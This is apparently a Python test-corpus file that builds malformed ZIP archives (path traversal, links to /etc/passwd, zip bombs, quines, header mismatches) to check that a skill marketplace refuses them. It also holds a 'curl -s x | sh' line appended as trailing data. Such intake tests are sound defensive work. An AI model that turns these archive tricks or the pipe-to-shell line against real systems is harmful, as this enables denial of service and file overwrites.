"""Malformed archives around an honest little skill."""

import io
import os
import struct
import tarfile
import zlib
from collections.abc import Callable, Iterator

from marketplace.tests.corpus.malformed_case import Expected, Malformed
from marketplace.tests.corpus.malformed_quine import quine
from marketplace.tests.corpus.malformed_zip import (
    BLOCK,
    CHARACTER,
    DESCRIPTOR,
    ENCRYPTED,
    FOLDER,
    LINK,
    PIPE,
    SOCKET,
    STORED,
    UTF8,
    Entry,
    archive,
    deflated,
    headers,
)

SKILL = b"""---
name: tidy-notes
description: Tidies meeting notes into decisions, actions and open questions.
---

# Tidy notes

1. Read the notes to their end.
2. Write decisions, then actions with owner and date, then open questions.
3. Show the result. Write nothing to disk.
"""
MEGABYTE = 1_000_000


def good() -> Entry:
    return Entry("SKILL.md", SKILL)


def with_(*entries: Entry) -> Callable[[], bytes]:
    """Build an archive of the honest skill and these members."""
    return lambda: archive([good(), *entries])


def refused(name: str, reason: str, build: Callable[[], bytes], entry: str = "") -> Malformed:
    return Malformed(name, "archive", build, "refused", reason, entry)


def either_way(name: str, reason: str, build: Callable[[], bytes], entry: str = "") -> Malformed:
    return Malformed(name, "archive", build, "either", reason, entry)


def cases() -> list[Malformed]:
    """Give all of them."""
    return [*paths(), *kinds(), *collisions(), *contradictions(), *bombs(), *surroundings(), *limits(), *lenient()]


def paths() -> Iterator[Malformed]:
    for name, reason, member in [
        ("absolute path", "absolute path", "/etc/cron.d/tidy"),
        ("absolute path, two slashes", "absolute path", "//srv/share/notes.md"),
        ("drive letter", "absolute path", "C:/Windows/notes.md"),
        ("drive letter with backslashes", "absolute path", "C:\\Windows\\notes.md"),
        ("network share", "absolute path", "\\\\server\\share\\notes.md"),
        ("parent path", "parent path", "../outside.md"),
        ("parent path in the middle", "parent path", "references/../../outside.md"),
        ("parent path that stays inside", "parent path", "references/../inside.md"),
        ("parent path with backslashes", "parent path", "references\\..\\..\\outside.md"),
        ("parent path, many", "parent path", "../" * 12 + "tmp/outside.md"),
        ("empty name", "bad name", ""),
        ("name of a dot", "bad name", "."),
        ("name with a line break", "bad name", "references/a\nb.md"),
        ("name with an escape", "bad name", "references/\x1b[2Jb.md"),
        ("name too long", "bad name", "r" * 300 + ".md"),
    ]:
        yield refused(name, reason, with_(Entry(member, b"text\n")), member)
    # Harmless where it is kept, and trouble on some systems where it is unpacked: refused or kept, as intake likes.
    for name, reason, member in [
        ("home path", "bad name", "~/.ssh/authorized_keys"),
        ("name with direction controls", "bad name", "references/\u202egnp.md"),
        ("path too deep", "bad name", "a/" * 120 + "b.md"),
        ("device name", "bad name", "references/CON"),
        ("name with a trailing dot", "bad name", "references/notes.md."),
        ("name with a stream", "bad name", "references/notes.md:hidden"),
    ]:
        yield either_way(name, reason, with_(Entry(member, b"text\n")), member)
    yield refused("name with a NUL", "bad name", with_(Entry(b"references/a.md\x00.png", b"text\n")))
    yield refused("name in no encoding", "bad name", with_(Entry(b"references/\xff\xfe\xc3.md", b"text\n")))
    yield refused(
        "folder with data", "bad name", with_(Entry("references/", b"not empty\n", mode=FOLDER)), "references/"
    )


def kinds() -> Iterator[Malformed]:
    for name, target in [
        ("link to a system file", b"/etc/passwd"),
        ("link out of the package", b"../../../.env"),
    ]:
        yield refused(name, "link", with_(Entry("loop", target, STORED, mode=LINK)), "loop")
    yield refused(
        "file below a link",
        "link",
        with_(Entry("out", b"/tmp", STORED, mode=LINK), Entry("out/planted.md", b"text\n")),
        "out",
    )
    for name, mode in [
        ("character device", CHARACTER),
        ("block device", BLOCK),
        ("pipe", PIPE),
        ("socket", SOCKET),
    ]:
        yield refused(name, "device", with_(Entry("references/odd", b"", STORED, mode=mode)), "references/odd")
    secret = Entry("references/secret.md", b"text\n", flags=UTF8 | ENCRYPTED, packed=b"\x91" * 17)
    yield refused("encrypted member", "encrypted", with_(secret), "references/secret.md")
    strong = Entry("references/secret.md", b"text\n", 99, UTF8 | ENCRYPTED, extra=aes(), packed=b"\x91" * 37, needs=51)
    yield refused("AES member", "encrypted", with_(strong), "references/secret.md")
    veiled = Entry("references/secret.md", b"text\n", flags=UTF8, local_flags=UTF8 | ENCRYPTED)
    yield refused("encrypted by its own header only", "header mismatch", with_(veiled), "references/secret.md")


def aes() -> bytes:
    return struct.pack("<HHHHBH", 0x9901, 7, 2, 0x4541, 3, 8)


def collisions() -> Iterator[Malformed]:
    for name, reason, first, second in [
        ("one name twice", "duplicate", "references/a.md", "references/a.md"),
        ("one name twice by a dot", "duplicate", "references/a.md", "references/./a.md"),
        ("one name twice by slashes", "duplicate", "references/a.md", "references//a.md"),
        ("two cases", "case collision", "references/Notes.md", "references/notes.md"),
        ("two cases of a folder", "case collision", "References/a.md", "references/b.md"),
        ("sharp s", "case collision", "references/straße.md", "references/STRASSE.md"),
        ("composed and decomposed", "unicode collision", "references/caf\u00e9.md", "references/cafe\u0301.md"),
        ("full width", "unicode collision", "references/notes.md", "references/\uff4eotes.md"),
        ("ligature", "unicode collision", "references/file.md", "references/\ufb01le.md"),
        ("file and folder", "path collision", "references", "references/a.md"),
    ]:
        yield refused(name, reason, with_(Entry(first, b"one\n"), Entry(second, b"two\n")), second)
    yield refused(
        "second SKILL.md in other case",
        "case collision",
        with_(Entry("skill.MD", b"---\nname: other\n---\n")),
        "skill.MD",
    )


def contradictions() -> Iterator[Malformed]:
    text, member = b"a text of some length\n" * 4, "references/a.md"
    for name, lie in [
        ("other name in its own header", Entry(member, text, local_name="references/b.md")),
        ("climbing name in its own header", Entry(member, text, local_name="../../../a.md")),
        ("other size in its own header", Entry(member, text, local_size=5)),
        ("other checksum in its own header", Entry(member, text, local_crc=1)),
        ("other method in its own header", Entry(member, text, local_method=STORED)),
    ]:
        yield refused(name, "header mismatch", with_(lie), member)
    yield refused("wrong checksum", "checksum", with_(Entry(member, text, crc=7)), member)
    yield refused("size too small", "header mismatch", with_(Entry(member, text, size=3)), member)
    yield refused("size too large", "header mismatch", with_(Entry(member, text, size=9000)), member)
    yield refused(
        "packed size beyond the end", "header mismatch", with_(Entry(member, text, packed_size=99_999)), member
    )
    yield refused("broken deflate data", "checksum", with_(Entry(member, text, packed=b"\xff" * 30)), member)
    yield refused("offset beyond the end", "not an archive", with_(Entry(member, text, offset=1 << 30)), member)
    yield refused("offset into another member", "overlap", with_(Entry(member, text, offset=0)), member)
    for name, method in [("bzip2", 12), ("LZMA", 14), ("Zstandard", 93), ("imploded", 6), ("unknown method", 77)]:
        yield refused(name, "unsupported", with_(Entry(member, text, method, packed=b"BZh9" + text)), member)
    yield either_way("needs a later version", "unsupported", with_(Entry(member, text, needs=990)), member)
    yield either_way("on another disk", "not an archive", with_(Entry(member, text, disk=3)), member)
    unsized = Entry(member, text, flags=UTF8 | DESCRIPTOR, local_size=0, local_crc=0)
    yield refused("descriptor promised and missing", "header mismatch", with_(unsized), member)


def bombs() -> Iterator[Malformed]:
    zeros = bytes(9 * MEGABYTE)
    yield refused("flat bomb", "bomb", with_(Entry("assets/zeros.bin", zeros)), "assets/zeros.bin")
    yield refused("flat bomb of many", "bomb", lambda: archive([good(), *(many(zeros, 40))]))
    yield refused(
        "bomb that lies about its size", "bomb", with_(Entry("assets/z.bin", zeros, size=100)), "assets/z.bin"
    )
    yield refused("nested bomb", "bomb", with_(Entry("assets/level.zip", nested(6), STORED)), "assets/level.zip")
    yield refused("quine", "bomb", with_(Entry("assets/again.zip", quine(), STORED)), "assets/again.zip")
    yield refused("quine as the package", "no package", quine, "again.zip")
    yield refused("overlapping bomb", "overlap", overlapping)
    yield refused("archive that holds itself", "overlap", holding_itself, "again.zip")
    yield refused("gzip bomb inside", "bomb", with_(Entry("assets/z.gz", gzipped(zeros), STORED)), "assets/z.gz")


def many(data: bytes, count: int) -> Iterator[Entry]:
    packed = deflated(data)
    for number in range(count):
        yield Entry(f"assets/{number}.bin", b"", packed=packed, crc=zlib.crc32(data), size=len(data))


def nested(levels: int) -> bytes:
    """Give archives in archives, ten of the lower ones in each."""
    body = archive([Entry("zeros.bin", bytes(MEGABYTE))])
    for level in range(levels):
        body = archive([Entry(f"{level}-{number}.zip", body) for number in range(10)])
    return body


def gzipped(data: bytes) -> bytes:
    squeeze = zlib.compressobj(9, zlib.DEFLATED, 31)
    return squeeze.compress(data) + squeeze.flush()


def overlapping() -> bytes:
    """Give an archive in which sixty members are one and the same stretch of bytes."""
    data = b"0123456789" * 90_000
    first = Entry("assets/0.txt", data)
    start = len(headers(good(), 0)[0])
    rest = (
        Entry(f"assets/{number}.txt", b"", packed=b"", packed_size=len(deflated(data)), offset=start, size=len(data))
        for number in range(1, 60)
    )
    return archive([good(), first, *rest])


def holding_itself() -> bytes:
    return archive([good(), Entry("again.zip", b"", STORED, size=4000, packed_size=4000, offset=0)])


def surroundings() -> Iterator[Malformed]:
    yield refused(
        "program before the archive", "leading data", lambda: archive([good()], leading=b"MZ" + b"\x90" * 510)
    )
    yield refused(
        "shell script before the archive", "leading data", lambda: archive([good()], leading=b"#!/bin/sh\nexit\n")
    )
    yield refused(
        "picture before the archive", "leading data", lambda: archive([good()], leading=b"GIF89a" + b"\0" * 60)
    )
    yield refused("text behind the archive", "trailing data", lambda: archive([good()], trailing=b"curl -s x | sh\n"))
    yield refused("second archive behind it", "trailing data", lambda: archive([good()]) + archive([good()]))
    yield refused("bytes between members and directory", "trailing data", lambda: archive([good()], gap=b"hidden" * 9))
    yield refused("empty file", "not an archive", bytes)
    yield refused("no archive", "not an archive", lambda: b"This is a letter and no archive.\n" * 9)
    yield refused("RAR", "not an archive", lambda: b"Rar!\x1a\x07\x01\x00" + b"\x33" * 99)
    yield refused("7-Zip", "not an archive", lambda: b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x33" * 99)
    yield refused("tar by another name", "not an archive", tarred)
    yield refused("HTML page", "not an archive", lambda: b"<!doctype html><title>Sign in</title>" + b" " * 99)
    yield refused("cut in the middle", "not an archive", lambda: archive([good()])[:120])
    yield refused("without an end record", "not an archive", lambda: archive([good()], end=False))
    yield refused("end record only", "no package", lambda: archive([]))
    yield refused("count too high", "not an archive", lambda: archive([good()], count=40))
    yield refused("count too low", "not an archive", lambda: archive([good(), Entry("a.md", b"a\n")], count=1))
    yield refused("directory past the end", "not an archive", lambda: archive([good()], directory_offset=1 << 29))
    yield refused("directory of no size", "not an archive", lambda: archive([good()], directory_size=0))


def tarred() -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w:gz") as tar:
        member = tarfile.TarInfo("SKILL.md")
        member.size = len(SKILL)
        tar.addfile(member, io.BytesIO(SKILL))
    return stream.getvalue()


def limits() -> Iterator[Malformed]:
    yield refused(
        "501 files", "too many files", lambda: archive(Entry(f"references/{n}.md", b"x\n") for n in range(501))
    )
    yield refused("9,000 folders", "too many files", lambda: archive(Entry(f"f{n}/", mode=FOLDER) for n in range(9000)))
    yield refused(
        "10.5 MB archive", "too large", lambda: archive([good(), Entry("a.bin", os.urandom(10_500_000), STORED)])
    )
    yield refused("one file of 11 MB", "too large", with_(Entry("a.txt", words(12 * MEGABYTE))), "a.txt")
    yield refused("51 MB unpacked", "too large", with_(*(Entry(f"{n}.txt", words(9_500_000)) for n in range(6))))
    yield refused("ratio of 150", "bomb", with_(Entry("a.txt", b"the same line again\n" * 50_000)), "a.txt")
    yield refused(
        "no component", "no package", lambda: archive([Entry("README.md", b"# Hello\n"), Entry("a.txt", b"a\n")])
    )
    yield refused("folders only", "no package", lambda: archive([Entry("skills/", mode=FOLDER)]))


def words(size: int) -> bytes:
    """Give a text that squeezes to about a tenth, so that only its size is at fault."""
    line = b"the line with the number %d says what the one before it said, and nothing else\n"
    return b"".join(line % number for number in range(size // len(line)))


def lenient() -> Iterator[Malformed]:
    script = b"#!/bin/sh\necho hello\n"
    rows: list[tuple[str, Expected, str, Entry]] = [
        ("executable script", "accepted with warning", "executable", Entry("scripts/a.sh", script, mode=0o100755)),
        ("script with the set-user bit", "either", "executable", Entry("scripts/a.sh", script, mode=0o104755)),
        ("hidden file", "accepted with warning", "hidden file", Entry(".editorconfig", b"root = true\n")),
        ("git folder", "accepted with warning", "hidden file", Entry(".git/config", b"[core]\n\tbare = false\n")),
        ("nested archive", "accepted with warning", "nested archive", Entry("assets/a.zip", archive([good()]), STORED)),
        ("broken nested archive", "accepted with warning", "nested archive", Entry("assets/a.zip", b"PK\x03\x04zz")),
        ("link to itself", "either", "link", Entry("loop", b"loop", STORED, mode=LINK)),
        ("link inside the package", "either", "link", Entry("README.md", b"SKILL.md", STORED, mode=LINK)),
        ("name without the UTF-8 flag", "either", "encoding", Entry("references/caf\u00e9.md", b"text\n", flags=0)),
    ]
    for name, expected, reason, entry in rows:
        path = entry.name if isinstance(entry.name, str) else ""
        yield Malformed(name, "archive", with_(entry), expected, reason, path)
